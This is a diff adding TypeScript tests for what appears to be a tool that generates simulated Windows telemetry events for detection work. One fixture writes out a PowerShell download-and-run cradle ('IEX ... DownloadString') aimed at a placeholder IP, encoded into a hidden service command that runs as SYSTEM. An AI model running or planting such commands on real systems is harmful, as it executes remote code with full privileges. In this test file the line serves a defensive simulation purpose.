@@ -202,3 +202,49 @@ describe('traces of well-known tools', () => {
     );
   });
 });
+
+describe('a line that names a script, and an installed service', () => {
+  it('runs a batch, VBScript or package file with the program Windows associates with it', () => {
+    const first = (line: string) => eventsOf(line)[0];
+    expect(first('C:\\ProgramData\\x.bat')).toEqual(
+      expect.objectContaining({
+        Image: 'C:\\Windows\\system32\\cmd.exe',
+        CommandLine: 'C:\\Windows\\system32\\cmd.exe /c ""C:\\ProgramData\\x.bat""',
+      }),
+    );
+    expect(first('C:\\Users\\Public\\u.vbs /q')).toEqual(
+      expect.objectContaining({
+        Image: 'C:\\Windows\\System32\\WScript.exe',
+        CommandLine: '"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\Public\\u.vbs" /q',
+      }),
+    );
+    expect(first('C:\\ProgramData\\agent.exe /q')).toEqual(expect.objectContaining({ Image: 'C:\\ProgramData\\agent.exe' }));
+  });
+
+  it("starts an installed service's binary under services.exe as SYSTEM, with the code an encoded PowerShell runs", () => {
+    const code = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')";
+    const encoded = Buffer.from(code, 'utf16le').toString('base64');
+    const events = observableEvents(
+      [
+        {
+          type: 'service',
+          value: 'a1b2c3',
+          attributes: { binary_path: `%COMSPEC% /b /c start /b /min powershell -nop -w hidden -enc ${encoded}` },
+        },
+      ],
+      { product: 'windows' },
+    ).map(({ event }) => event);
+    expect(withId(events, 1)).toContainEqual(
+      expect.objectContaining({
+        CommandLine: expect.stringMatching(/^C:\\Windows\\system32\\cmd\.exe \/b \/c start/),
+        ParentImage: 'C:\\Windows\\System32\\services.exe',
+        User: 'NT AUTHORITY\\SYSTEM',
+      }),
+    );
+    expect(withId(events, 4104)).toEqual([expect.objectContaining({ ScriptBlockText: code })]);
+    // The decoded code's download reaches its host, from PowerShell.
+    expect(withId(events, 3)).toContainEqual(
+      expect.objectContaining({ DestinationIp: '198.51.100.7', Image: expect.stringMatching(/powershell\.exe$/) }),
+    );
+  });
+});
